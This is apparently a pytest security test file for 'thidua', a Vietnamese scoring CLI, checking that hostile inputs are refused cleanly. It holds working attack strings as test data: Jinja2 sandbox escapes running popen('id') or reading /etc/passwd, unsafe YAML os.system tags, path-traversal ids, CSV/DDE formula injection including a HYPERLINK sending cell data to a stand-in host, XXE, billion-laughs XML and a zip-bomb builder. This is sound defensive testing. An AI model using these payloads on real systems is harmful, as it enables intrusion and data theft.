"""Hostile inputs: each is refused cleanly (a Vietnamese `Lỗi:` or located message, no traceback),
quickly, with little memory, and nothing is read from or written to outside the bloc's folders.

Already covered elsewhere, so not repeated here:
- object-constructing tags, aliases and the billion-laughs bomb, merge keys, nesting 200,000 deep,
  a file over the size limit, in the reader: tests/test_yamlread.py; the same through `validate`:
  tests/corpus/{python-tag,alias-bomb,merge-key,too-deep} and tests/test_corpus.py
  (test_file_over_size_limit, test_symlink_outside_the_data_folder);
- a template reaching `__class__` or calling a method that changes data: tests/test_report.py.
Here: those constructs through the other commands; control characters (a terminal escape) and rare
syntax errors, located and in Vietnamese; a 50 MB file (time and memory); a named pipe and an endless
device; unit ids that look like paths in every command that builds a path from an id; symlinked
year, period and template folders; templates that try to reach Python internals or read a file.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
import tracemalloc
import warnings
import zipfile
import zlib
from pathlib import Path
from typing import Set

import pytest
from conftest import SAMPLE, copy_data, run_thidua

SECRET = "BÍ-MẬT-7f3a9c"


@pytest.fixture
def bloc(tmp_path, monkeypatch):
    """A copy of the sample bloc in tmp_path/bloc (data/ inside it), which is the working folder."""
    root = tmp_path / "bloc"
    copy_data(SAMPLE, root)
    monkeypatch.chdir(root)
    return root


def run(*args: str):
    return run_thidua(*args, data="data")


def refused(result, code: int = 1) -> bool:
    """Exit `code` with a Vietnamese message, and no exception or traceback."""
    clean = result.exception is None or isinstance(result.exception, SystemExit)
    return (result.exit_code == code and clean and "Traceback" not in result.output
            and ("Lỗi" in result.output or ": lỗi: " in result.output))


def tree(root: Path) -> Set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*")}


READERS = [
    ["validate"],
    ["rank"],
    ["nominate"],
    ["report", "--format", "md"],
    ["report", "-o", "bao-cao.docx"],
    ["units"],
    ["history"],
]

# --- YAML constructs, through every command that reads the data ------------------------------------

BOMB = "a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 12))
CONSTRUCTS = {
    "python-tag": "unit: !!python/object/apply:os.system ['echo pwned > pwned.txt']\n",
    "python-name": "unit: !!python/name:os.system\n",
    "alias-bomb": BOMB,
    "deep-nesting": "unit: " + "[" * 100_000 + "]" * 100_000 + "\n",
}


# What the two commands that go on show instead of refusing: `units` reads only bloc.yaml and
# awards.yaml, which are intact; `history` marks each year whose data has errors in its table.
SHOWN_DESPITE_A_BAD_SELF_REPORT = {
    "units": ["tand        Tòa án nhân dân tỉnh Bắc Giang"],
    "history": ["dữ liệu có lỗi (chạy thidua validate 2019)", "dữ liệu có lỗi (chạy thidua validate 2020)"],
}


@pytest.mark.parametrize("command", READERS, ids=" ".join)
@pytest.mark.parametrize("construct", sorted(CONSTRUCTS))
def test_refused_yaml_constructs_stop_every_command_cleanly(bloc, construct, command):
    (bloc / "data" / "2020" / "year" / "tand.yaml").write_text(CONSTRUCTS[construct], encoding="utf-8")
    (bloc / "data" / "2019" / "year" / "tand.yaml").write_text(CONSTRUCTS[construct], encoding="utf-8")
    started = time.perf_counter()

    result = run(*command)

    assert time.perf_counter() - started < 10
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    if command[0] in SHOWN_DESPITE_A_BAD_SELF_REPORT:
        assert result.exit_code == 0, result.output
        assert all(line in result.output for line in SHOWN_DESPITE_A_BAD_SELF_REPORT[command[0]]), result.output
    else:
        assert refused(result), result.output
    assert not (bloc / "pwned.txt").exists()


# --- control characters and rare syntax errors: located, in Vietnamese --------------------------------

@pytest.mark.parametrize("text,line,col,code", [
    (b'a: 1\nb: "x\xc3\xa9\x01y"\n', 2, 7, "yaml-control-char"),      # written as it is (pasted from Word)
    (b"a: 1\nb: x\x00y\n", 2, 5, "yaml-control-char"),                   # a NUL byte
    (b'a: 1\nb: "\\x1b[2J"\n', 2, 4, "yaml-control-char"),                # an escape that would clear a terminal
    (b'a: "\\x4"\n', 1, 7, "yaml-syntax"),
    (b"a: 1\nx: - a\n", 2, 4, "yaml-indent"),
    (b"a: 1\nx: &\n", 2, 5, "yaml-syntax"),
    (b"a: 1\nx: !<\n", 2, 6, "yaml-tag"),
    (b"a: 1\nb: !foo!x y\n", 2, 4, "yaml-tag"),
    (b"a: 1\nx: |9x\n", 2, 6, "yaml-syntax"),
    (b"%YAML 1.1\n%YAML 1.1\n---\na: 1\n", 2, 1, "yaml-syntax"),
])
def test_rare_damage_is_located_and_explained_in_vietnamese(text, line, col, code):
    from thidua.reading.yamlread import parse_yaml_bytes

    _, problems = parse_yaml_bytes(text, "a.yaml")

    assert [(p.src.line, p.src.col, p.code) for p in problems] == [(line, col, code)]
    assert "Lỗi cú pháp YAML (" not in problems[0].message  # PyYAML's English left in
    assert problems[0].message.isascii() is False


# --- a 50 MB file --------------------------------------------------------------------------------------

def write_big(path: Path, megabytes: int = 50) -> None:
    chunk = ("# " + "x" * 1021 + "\n").encode("ascii") * 1024  # 1 MiB of YAML comments
    with open(path, "wb") as out:
        for _ in range(megabytes):
            out.write(chunk)


@pytest.mark.parametrize("command", READERS[:4], ids=" ".join)
def test_a_50_mb_file_is_refused_quickly_without_being_read(bloc, command):
    write_big(bloc / "data" / "2020" / "year" / "tand.yaml")
    with open(bloc / "data" / "2020" / "year" / "ban-scan.pdf", "wb") as scan:  # a file no command reads
        scan.truncate(50 * 1024 * 1024)
    tracemalloc.start()
    started = time.perf_counter()
    try:
        result = run(*command)
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert refused(result)
    assert elapsed < 5
    assert peak < 12 * 1024 * 1024  # the sample alone needs a few MB; reading the file would need 50


def test_the_50_mb_file_is_named_with_its_size(bloc):
    write_big(bloc / "data" / "2020" / "year" / "tand.yaml")

    result = run("validate")

    assert "data/2020/year/tand.yaml:1:1: lỗi: Tệp quá lớn (51200 KB)" in result.output


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
@pytest.mark.parametrize("name,code", [("2020/year/tand.yaml", 0), ("2020/bloc.yaml", 1)])
def test_a_named_pipe_in_the_data_folder_never_hangs(bloc, name, code):
    (bloc / "data" / name).unlink()
    os.mkfifo(bloc / "data" / name)

    done = subprocess.run([sys.executable, "-m", "thidua", "--data", "data", "validate"], cwd=bloc,
                          capture_output=True, text=True, encoding="utf-8", timeout=60)

    assert done.returncode == code  # a missing self-report is a warning, a missing bloc.yaml an error
    assert "Traceback" not in done.stderr
    assert f"data/{name}:1:1: cảnh báo: Không lệnh nào đọc tệp này" in done.stdout


# --- unit ids that look like paths ----------------------------------------------------------------------

PATH_IDS = ["../evil", "../../evil", "../../../evil", "../../../../evil", "a/b", "a\\b", "..", "/tmp/evil",
            "C:\\evil", "tand/../../evil"]
ID_COMMANDS = [
    ["export-sheet", "--unit", "{id}"],
    ["export-sheet", "--unit", "{id}", "--half", "1"],
    ["import-scores", "sheet.xlsx", "--unit", "{id}", "--force"],
    ["rotate-chair", "--chair", "{id}", "--force"],
    ["rotate-chair", "--vice", "{id}", "--force"],
    ["history", "{id}"],
]


@pytest.mark.parametrize("command", ID_COMMANDS, ids=" ".join)
@pytest.mark.parametrize("unit_id", PATH_IDS)
def test_an_id_given_on_the_command_line_never_becomes_a_path(bloc, tmp_path, unit_id, command):
    shutil.copy(bloc / "data" / "2020" / "criteria.yaml", bloc / "sheet.xlsx")  # any file: it is never opened
    before = tree(tmp_path)

    result = run(*(part.format(id=unit_id) for part in command))

    assert refused(result, code=2), result.output  # not a unit of the bloc: a usage error
    assert f"'{unit_id}'" in result.output
    assert tree(tmp_path) == before


def path_like_ids(bloc: Path) -> None:
    """thanh-tra's id in bloc.yaml as '../../../evil', and its self-report naming unit '..\\x'."""
    bloc_file = bloc / "data" / "2020" / "bloc.yaml"
    bloc_file.write_text(bloc_file.read_text(encoding="utf-8").replace("- id: thanh-tra", '- id: "../../../evil"'),
                         encoding="utf-8")
    report_file = bloc / "data" / "2020" / "year" / "thanh-tra.yaml"
    report_file.write_text(report_file.read_text(encoding="utf-8").replace("unit: thanh-tra", 'unit: "..\\\\x"'),
                           encoding="utf-8")


def test_ids_that_look_like_paths_in_the_data_are_refused_where_written(bloc, tmp_path):
    path_like_ids(bloc)
    before = tree(tmp_path)

    results = {" ".join(command): run(*command) for command in READERS + [
        ["export-sheet", "--unit", "../../../evil"], ["rotate-chair", "--force"]]}

    shown = results["validate"].output
    assert "data/2020/bloc.yaml:38:9: lỗi: Giá trị '../../../evil' không đúng dạng" in shown
    assert "data/2020/year/thanh-tra.yaml:4:7: lỗi: Giá trị '..\\x' không đúng dạng" in shown
    codes = {command: r.exit_code for command, r in results.items() if command != "units"}  # units: below
    assert codes == {"validate": 1, "rank": 1, "nominate": 1, "report --format md": 1, "report -o bao-cao.docx": 1,
                     "history": 0, "export-sheet --unit ../../../evil": 2, "rotate-chair --force": 1}
    assert all(refused(r, r.exit_code) for command, r in results.items() if command not in ("units", "history"))
    assert "dữ liệu có lỗi (chạy thidua validate 2020)" in results["history"].output
    assert tree(tmp_path) - before == set()


def test_units_refuses_a_bloc_file_with_an_invalid_id(bloc):
    path_like_ids(bloc)

    result = run("units")

    assert refused(result), result.output


def test_init_writes_only_inside_the_folder_it_is_given(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)

    result = run_thidua("init", "nested/khoi", "--year", "2024")

    assert result.exit_code == 0, result.output
    assert {p.split("/")[0] for p in tree(tmp_path)} == {"nested"}
    assert all(p == "nested" or p.startswith("nested/khoi") for p in tree(tmp_path))


# --- symlinks pointing outside the data folder ----------------------------------------------------------

def symlink(link: Path, target: Path) -> None:
    if link.is_dir() and not link.is_symlink():
        shutil.rmtree(link)
    elif link.exists() or link.is_symlink():
        link.unlink()
    try:
        os.symlink(target, link, target_is_directory=target.is_dir())
    except (OSError, NotImplementedError):
        pytest.skip("symlinks are not available here")


@pytest.mark.parametrize("link,shown", [
    ("2020", "data/2020:1:1: lỗi: Thư mục là liên kết (symlink) trỏ ra ngoài thư mục dữ liệu"),
    ("2020/year", "data/2020/year:1:1: lỗi: Thư mục là liên kết (symlink) trỏ ra ngoài thư mục dữ liệu"),
    ("2020/bloc.yaml", "data/2020/bloc.yaml:1:1: lỗi: Tệp là liên kết (symlink) trỏ ra ngoài thư mục dữ liệu"),
])
def test_a_symlink_pointing_outside_is_not_followed(bloc, tmp_path, link, shown):
    source, outside = bloc / "data" / link, tmp_path / "outside" / Path(link).name
    if source.is_dir():
        shutil.copytree(source, outside)
    else:
        outside.parent.mkdir()
        shutil.copy(source, outside)
    symlink(source, outside)

    results = [run(*command) for command in READERS[:4]]

    assert shown in results[0].output
    assert all(refused(r) for r in results)


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no /dev/zero here")
def test_an_endless_device_is_never_read(bloc):
    symlink(bloc / "data" / "2020" / "year" / "tand.yaml", Path("/dev/zero"))

    result = run("validate")

    assert result.exit_code == 0  # not a regular file: only an unread file, and tand has not reported
    assert "data/2020/year/tand.yaml:1:1: cảnh báo: Không lệnh nào đọc tệp này" in result.output


def test_a_symlink_loop_is_only_an_unread_file(bloc):
    link = bloc / "data" / "2020" / "year" / "vong.yaml"
    symlink(link, link)

    result = run("validate")

    assert result.exit_code == 0
    assert "data/2020/year/vong.yaml:1:1: cảnh báo: Không lệnh nào đọc tệp này" in result.output


# --- templates -------------------------------------------------------------------------------------------

ATTACKS = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__.__builtins__.open('{secret}').read() }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ self.__init__.__globals__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ '{0.__class__.__base__}'.format(heading) }}",
    "{{ heading|attr('__class__') }}",
    "{{ range.__globals__ }}",
    "{% include '{secret}' %}",
    "{% include '../secret.txt' %}",
    "{% include '../../secret.txt' %}",
    "{% include '/etc/passwd' %}",
    "{% import '{secret}' as s %}",
    "{% extends '../secret.txt' %}",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_template_cannot_reach_python_internals_or_read_a_file(bloc, tmp_path, attack):
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    (bloc / "templates").mkdir()
    source = attack.replace("{secret}", secret.as_posix())
    (bloc / "templates" / "bao-cao.md.j2").write_text(f"Dòng 1\n{source}\n", encoding="utf-8")

    result = run("report", "-o", "bao-cao.md")

    assert refused(result)
    assert "mẫu" in result.output
    assert SECRET not in result.output
    assert "uid=" not in result.output
    assert not (bloc / "bao-cao.md").exists()


COSTLY = [
    ("{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}", "quá 1 giây"),
    ("{% macro f(n) %}{% for i in range(100000) %}{{ f(n) if false }}{% endfor %}{{ f(n) }}{% endmacro %}{{ f(1) }}",
     "mẫu"),
    ("{{ 'x' * 1000000000 }}", "quá dài"),
    ("{{ [1, 2] * 600000 }}", "quá dài"),
    ("{{ 2 ** 100000 }}", "lũy thừa quá lớn"),
    ("{% set n = 10 ** 10 %}{{ n ** n }}", "lũy thừa quá lớn"),
]


@pytest.mark.parametrize("source,words", COSTLY)
def test_a_template_cannot_run_for_ever_or_build_a_huge_value(bloc, monkeypatch, source, words):
    import time

    from thidua.rendering.documents import render as report

    monkeypatch.setattr(report, "TEMPLATE_SECONDS", 1)
    (bloc / "templates").mkdir()
    (bloc / "templates" / "bao-cao.md.j2").write_text(f"Dòng 1\n{source}\n", encoding="utf-8")

    started = time.monotonic()
    result = run("report", "-o", "bao-cao.md")

    assert refused(result) and words in result.output
    assert "Lỗi trong mẫu templates/bao-cao.md.j2:2" in result.output
    assert time.monotonic() - started < 30
    assert not (bloc / "bao-cao.md").exists()


def test_a_word_template_cannot_reach_python_internals(bloc):
    from docx import Document

    (bloc / "templates").mkdir()
    doc = Document()
    doc.add_paragraph("{{ cycler.__init__.__globals__.os.popen('id').read() }}")
    doc.save(str(bloc / "templates" / "bao-cao.docx"))

    result = run("report", "-o", "bao-cao.docx")

    assert refused(result)
    assert "không được phép truy cập '__init__'" in result.output
    assert not (bloc / "bao-cao.docx").exists()


def test_a_word_template_cannot_run_for_ever(bloc, monkeypatch):
    from docx import Document

    from thidua.rendering.documents import render as report

    monkeypatch.setattr(report, "TEMPLATE_SECONDS", 1)
    (bloc / "templates").mkdir()
    doc = Document()
    doc.add_paragraph("{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}")
    doc.save(str(bloc / "templates" / "bao-cao.docx"))

    result = run("report", "-o", "bao-cao.docx")

    assert refused(result) and "quá 1 giây" in result.output
    assert not (bloc / "bao-cao.docx").exists()


@pytest.mark.parametrize("link", ["bao-cao.md.j2", "_header.md.j2", "bao-cao.docx"])
def test_a_template_symlinked_outside_the_templates_folder_is_not_read(bloc, tmp_path, link):
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    (bloc / "templates").mkdir()
    symlink(bloc / "templates" / link, secret)

    result = run("report", "--format", Path(link).suffixes[0][1:], "-o", "out" + Path(link).suffixes[0])

    assert refused(result)
    assert f"'templates/{link}' là liên kết (symlink) trỏ ra ngoài thư mục 'templates'" in result.output
    assert SECRET not in result.output
    assert not (bloc / ("out" + Path(link).suffixes[0])).exists()


def test_a_templates_folder_symlinked_outside_the_bloc_is_not_read(bloc, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "bao-cao.md.j2").write_text(SECRET, encoding="utf-8")
    symlink(bloc / "templates", outside)

    result = run("report", "--format", "md")

    assert refused(result)
    assert "'templates' là liên kết (symlink) trỏ ra ngoài thư mục" in result.output
    assert SECRET not in result.output


# --- text that becomes code elsewhere (issue 17 point 3) ---------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.invalid/?d="&A1,"Bấm vào đây")', "=WEBSERVICE(\"http://x.invalid\")",
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def set_text(path: Path, old: str, new: str) -> None:
    """Replace the YAML value `old` in `path` by the text `new`, quoted (JSON is YAML)."""
    import json

    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, json.dumps(new, ensure_ascii=False), 1), encoding="utf-8")


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-0,5", "-0,5"), ("+3", "+3"), ("-12.25", "-12.25"), ("Công an tỉnh", "Công an tỉnh"),
    ("a=b", "a=b"), ("", ""), (None, None), (7, 7)])
def test_a_csv_cell_is_never_a_formula_and_a_number_stays_a_number(value, cell):
    from thidua.rendering.table import csv_cell

    assert csv_cell(value) == cell


@pytest.mark.parametrize("formula", FORMULAS)
def test_rank_csv_writes_formula_like_names_as_text(bloc, formula):
    import csv
    import io

    set_text(bloc / "data/2020/bloc.yaml", "TAND tỉnh", formula)

    result = run("rank", "2020", "--format", "csv")

    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout_bytes.decode("utf-8-sig"))))
    assert ["'" + formula] == [cell for row in rows for cell in row if formula in cell]


@pytest.mark.parametrize("formula", FORMULAS)
def test_rank_xlsx_writes_formula_like_names_as_text(bloc, formula):
    import openpyxl

    set_text(bloc / "data/2020/bloc.yaml", "TAND tỉnh", formula)

    result = run("rank", "2020", "--format", "xlsx", "-o", "xep-hang.xlsx")

    assert result.exit_code == 0, result.output
    cells = [c for row in openpyxl.load_workbook(bloc / "xep-hang.xlsx").active.iter_rows() for c in row]
    label = [c for c in cells if c.value == formula]
    assert len(label) == 1 and label[0].data_type == "s" and label[0].quotePrefix
    assert [c.coordinate for c in cells if c.data_type == "f"] == []


def test_export_sheet_writes_formula_like_names_and_reasons_as_text_and_reads_them_back(bloc):
    import openpyxl
    import yaml

    set_text(bloc / "data/2020/criteria.yaml", "Xây dựng kế hoạch, đăng ký thi đua, ký kết giao ước thi đua",
             FORMULAS[1])
    set_text(bloc / "data/2020/year/cong-an.yaml",
             "Được Bộ Công an tặng Cờ thi đua (Quyết định số 1234/QĐ-BCA ngày 15/10/2020)", FORMULAS[0])

    exported = run("export-sheet", "2020", "--unit", "cong-an", "-o", "bang-diem.xlsx")

    assert exported.exit_code == 0, exported.output
    ws = openpyxl.load_workbook(bloc / "bang-diem.xlsx")["Bảng điểm"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert {c.data_type for c in cells if c.value in FORMULAS[:2]} == {"s"}
    assert {c.column_letter for c in cells if c.data_type == "f"} == {"D"}  # the sheet's own totals
    imported = run("import-scores", "bang-diem.xlsx", "2020", "--unit", "cong-an", "--force")
    assert imported.exit_code == 0, imported.output
    report = yaml.safe_load((bloc / "data/2020/year/cong-an.yaml").read_text(encoding="utf-8"))
    assert report["bonus"] == [{"points": 2, "reason": FORMULAS[0]}]


TERMINAL = "t\x1b[2J\x9b31m\u202e\u200b"  # clear the screen, CSI, a right-to-left override, a zero-width space
ESCAPED = "t\\x1b[2J\\x9b31m\\u202e\\u200b"


@pytest.mark.parametrize("fmt", ["text", "github", "json"])
def test_a_file_name_with_terminal_escapes_is_shown_escaped(bloc, fmt):
    shutil.copy(bloc / "data/2020/year/tand.yaml", bloc / f"data/2020/year/{TERMINAL}.yaml")

    result = run("validate", "2020", "--format", fmt)

    assert result.exit_code == 1
    assert not {"\x1b", "\x9b", "\u202e", "\u200b"} & set(result.output)
    assert (ESCAPED if fmt != "json" else "t\\u001b[2J\\u009b31m\\u202e\\u200b") in result.output
    if fmt == "text":
        assert f"data/2020/year/{ESCAPED}.yaml:4:7: lỗi: Tệp {ESCAPED}.yaml ghi đơn vị 'tand'" in result.output


def test_an_error_message_shows_a_file_name_escaped(bloc):
    result = run("import-scores", f"{TERMINAL}.xlsx", "2020", "--unit", "bchqs", "--force")

    assert refused(result)
    assert result.output == f"Lỗi: Không có tệp '{ESCAPED}.xlsx'.\n"


@pytest.mark.parametrize("old, new, where, named", [
    ('- id: "1.1"', '- id: "1.1\u200b"', "data/2020/criteria.yaml:13:13", "\\u200b (ký tự không độ rộng U+200B)"),
    ("- id: tand", '- id: "tand\u202e"', "data/2020/bloc.yaml:23:9",
     "\\u202e (ký tự điều khiển chiều viết U+202E)")])
def test_an_id_that_looks_like_another_names_its_invisible_character(bloc, old, new, where, named):
    path = bloc / where.split(":")[0]
    path.write_text(path.read_text(encoding="utf-8").replace(old, new, 1), encoding="utf-8")

    result = run("validate", "2020")

    assert result.exit_code == 1
    shown = new.split('"')[1].encode("unicode_escape").decode("ascii")
    assert (f"{where}: lỗi: Giá trị '{shown}' có {named}: trông như '{shown.split(chr(92))[0]}' nhưng là giá trị "
            "khác. Xóa ký tự đó (gõ lại giá trị). [invisible-character]") in result.output


# --- spreadsheets are untrusted input (issue 17 point 5) ---------------------------------------------

MB = 1024 * 1024
REMAKE = "Xuất bảng mới bằng 'thidua export-sheet', điền điểm vào đó rồi nhập lại."
RESAVE = "Mở tệp bằng Excel và lưu lại, hoặc xuất bảng mới bằng 'thidua export-sheet', điền điểm vào đó rồi nhập lại."
SHEET_XML = "xl/worksheets/sheet1.xml"
D8 = '<c r="D8" s="8" t="n"><v>5</v></c>'  # tand's score of criterion 1.1, pre-filled by export-sheet
LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY l0 "lol">'
          + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)) + "]>")


@pytest.fixture
def sheet(bloc):
    """The members {name: bytes} of tand's scoring sheet for 2020, made by export-sheet (pre-filled)."""
    assert run("export-sheet", "2020", "--unit", "tand", "-o", "bang-diem.xlsx").exit_code == 0
    with zipfile.ZipFile(bloc / "bang-diem.xlsx") as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    assert D8.encode() in members[SHEET_XML]
    return members


def crafted(members, changes=None) -> Path:
    """`members` zipped into h.xlsx, with `changes` {name: text or bytes}."""
    path = Path("h.xlsx")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {**members, **(changes or {})}.items():
            archive.writestr(name, data)
    return path


def cell(members, xml: str) -> str:
    """The sheet's XML with the cell D8 replaced by `xml`."""
    return members[SHEET_XML].decode("utf-8").replace(D8, xml, 1)


class _Repeat:
    """A deflate 'compressor' that writes one precompressed block for each chunk it is given."""

    def __init__(self, block: bytes):
        self.block = block

    def compress(self, data: bytes) -> bytes:
        return self.block

    def flush(self) -> bytes:
        return b"\x03\x00"  # an empty final block


def zip_bomb(members, megabytes: int = 400) -> Path:
    """h.xlsx with shared strings of `megabytes` MB (about 1 KB a MB on disk), written in well under a
    second: one MB compressed once and repeated; a full flush makes each copy stand alone."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"a" * MB
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    path = crafted(members)
    info = zipfile.ZipInfo("xl/sharedStrings.xml")
    info.compress_type = zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(path, "a") as archive, archive.open(info, "w", force_zip64=True) as member:
        member._compressor = _Repeat(block)  # zipfile's own writer, only its compressor replaced
        for _ in range(megabytes):
            member.write(chunk)
    return path


def import_sheet(path: Path):
    return run("import-scores", str(path), "2020", "--unit", "tand", "--force")


HOSTILE_SHEETS = {
    "broken-workbook-xml": (lambda m: crafted(m, {"xl/workbook.xml": m["xl/workbook.xml"][:300]}),
                            "Tệp 'h.xlsx' bị hỏng: phần xl/workbook.xml có XML không hợp lệ (dòng 1, cột 122). "
                            + RESAVE),
    "broken-sheet-xml": (lambda m: crafted(m, {SHEET_XML: m[SHEET_XML][:5000]}),
                         "Tệp 'h.xlsx' bị hỏng: phần xl/worksheets/sheet1.xml có XML không hợp lệ (dòng 1, cột 4999). "
                         + RESAVE),
    "invalid-character-reference": (
        lambda m: crafted(m, {SHEET_XML: cell(m, '<c r="D8" t="inlineStr"><is><t>&#0;</t></is></c>')}),
        "Tệp 'h.xlsx' bị hỏng: phần xl/worksheets/sheet1.xml có mã ký tự không được phép trong XML (&#...;) "
        "(dòng 1, cột {col}). " + RESAVE),
    "external-entity": (
        lambda m: crafted(m, {SHEET_XML: '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e SYSTEM '
                          '"file:///etc/passwd">]>' + cell(m, '<c r="D8" t="inlineStr"><is><t>&e;</t></is></c>')}),
        "Tệp 'h.xlsx' có khai báo DOCTYPE hay thực thể XML (phần xl/worksheets/sheet1.xml); tệp Excel thật không bao "
        "giờ có, nên thidua không đọc tệp này (có thể là tệp được tạo để tấn công máy). " + REMAKE),
    "billion-laughs-workbook": (
        lambda m: crafted(m, {"xl/workbook.xml": LAUGHS + m["xl/workbook.xml"].decode().replace(
            'name="Bảng điểm"', 'name="&l9;"')}),
        "Tệp 'h.xlsx' có khai báo DOCTYPE hay thực thể XML (phần xl/workbook.xml); tệp Excel thật không bao giờ có, "
        "nên thidua không đọc tệp này (có thể là tệp được tạo để tấn công máy). " + REMAKE),
    "million-digits": (
        lambda m: crafted(m, {SHEET_XML: cell(m, f'<c r="D8" s="8"><v>{"9" * 10 ** 6}</v></c>')}),
        "Tệp 'h.xlsx', ô Bảng điểm!D8: ô số có giá trị '99999999999999999999… (1.000.000 ký tự)' không phải một số "
        "đọc được. Ghi lại ô bằng một số (ví dụ 8,5) rồi lưu tệp."),
    "nan": (lambda m: crafted(m, {SHEET_XML: cell(m, '<c r="D8" s="8" t="n"><v>NaN</v></c>')}),
            "Tệp 'h.xlsx', ô Bảng điểm!D8: ô số có giá trị 'NaN' không phải một số đọc được. Ghi lại ô bằng một số "
            "(ví dụ 8,5) rồi lưu tệp."),
    "old-xls": (lambda m: Path("h.xlsx").write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + bytes(4088)) and Path("h.xlsx"),
                "Tệp 'h.xlsx' là tệp Excel cũ (.xls, Excel 97-2003) hoặc tệp Excel có đặt mật khẩu; thidua chỉ đọc tệp "
                ".xlsx. Mở tệp bằng Excel, bỏ mật khẩu nếu có, rồi lưu lại dạng \"Excel Workbook (*.xlsx)\"."),
    "renamed-csv": (lambda m: Path("h.xlsx").write_text("unit,score\ntand,9\n") and Path("h.xlsx"),
                    "Tệp 'h.xlsx' không phải tệp Excel .xlsx (có thể là tệp .csv hay tệp văn bản được đổi tên). "
                    + REMAKE),
    "renamed-docx": (lambda m: crafted({"[Content_Types].xml": m["[Content_Types].xml"], "word/document.xml": "<w/>"}),
                     "Tệp 'h.xlsx' là tệp Word (.docx) chứ không phải tệp Excel .xlsx. " + REMAKE),
    "truncated-archive": (lambda m: Path("h.xlsx").write_bytes(Path(crafted(m)).read_bytes()[:3000]) and Path("h.xlsx"),
                          "Tệp 'h.xlsx' bị hỏng, thidua không đọc được. " + RESAVE),
}


@pytest.mark.parametrize("case", HOSTILE_SHEETS)
def test_a_hostile_spreadsheet_is_refused_with_one_vietnamese_message(bloc, sheet, case):
    build, message = HOSTILE_SHEETS[case]
    path = build(sheet)
    report = (bloc / "data/2020/year/tand.yaml").read_bytes()
    if "{col}" in message:
        message = message.format(col=path.read_bytes() and zipfile.ZipFile(path).read(SHEET_XML).index(b"&#0;") + 1)

    with warnings.catch_warnings():
        warnings.simplefilter("error")  # no library warning either
        result = import_sheet(path)

    assert refused(result)
    assert result.output == f"Lỗi: {message}\n"
    assert (bloc / "data/2020/year/tand.yaml").read_bytes() == report


def test_a_zip_bomb_is_refused_from_its_directory_quickly_in_little_memory(bloc, sheet):
    path = zip_bomb(sheet)
    assert path.stat().st_size < 600_000
    tracemalloc.start()
    started = time.perf_counter()
    try:
        result = import_sheet(path)
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert refused(result)
    assert result.output == ("Lỗi: Tệp 'h.xlsx' khi giải nén lớn 400,0 MB (11 phần), vượt giới hạn 20,0 MB của một bảng "
                             "điểm (có thể là một \"bom nén\"); thidua không đọc tệp này. " + REMAKE + "\n")
    assert elapsed < 2
    assert peak < 12 * MB


def test_a_text_cell_of_a_million_digits_is_a_located_cell_problem(bloc, sheet):
    path = crafted(sheet, {SHEET_XML: cell(sheet, f'<c r="D8" t="inlineStr"><is><t>{"9" * 10 ** 6}'
                                                                 "</t></is></c>")})
    started = time.perf_counter()

    result = import_sheet(path)

    assert time.perf_counter() - started < 5
    assert result.exit_code == 1
    assert result.output.splitlines()[0] == ("h.xlsx: Bảng điểm!D8: lỗi: Điểm tự chấm của tiêu chí 1.1 phải là một số "
                                             "(ví dụ 8,5), nhưng ô có '999999999999999999999999999…'. "
                                             "[cell-not-a-number]")


def test_a_cell_on_a_far_row_is_refused_without_reading_a_million_rows(bloc, sheet):
    far = '<row r="1048576"><c r="F1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    path = crafted(sheet, {SHEET_XML: sheet[SHEET_XML].decode().replace("</sheetData>", far, 1)})

    result = import_sheet(path)

    assert refused(result)
    assert result.output == ("Lỗi: Bảng 'Bảng điểm' trong tệp 'h.xlsx' có tới 1.048.576 dòng; bảng điểm do 'thidua "
                             "export-sheet' tạo chỉ có vài chục dòng. Xóa các dòng thừa ở cuối bảng, hoặc xuất bảng "
                             "mới, điền điểm vào đó rồi nhập lại.\n")


# --- writes that stay inside the bloc, numbers at their limits, the output streams (issue 17 points 2, 6, 7) ---

